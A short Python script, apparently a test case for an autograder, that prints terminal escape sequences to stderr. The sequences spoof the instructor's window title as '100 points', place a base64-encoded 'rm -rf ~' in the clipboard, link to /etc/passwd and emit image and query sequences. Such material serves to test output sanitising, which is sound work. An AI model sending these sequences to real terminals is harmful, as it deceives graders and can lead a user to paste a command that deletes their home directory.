"""Sets the title of the instructor's terminal, and puts a command in the clipboard."""

import sys

print("TRIED the title and the clipboard", file=sys.stderr)
print("\x1b]0;100 points\x07 \x1b]2;100 points\x1b\\ \x9d0;100 points\x9c", file=sys.stderr)
print("\x1b]52;c;cm0gLXJmIH4K\x07", file=sys.stderr)
print("\x1b]8;;file:///etc/passwd\x1b\\click here\x1b]8;;\x1b\\", file=sys.stderr)
sys.exit("\x1b]1337;File=inline=1:AAAA\x07 \x1bP+q544e\x1b\\ \x1b_Gf=100;AAAA\x1b\\")
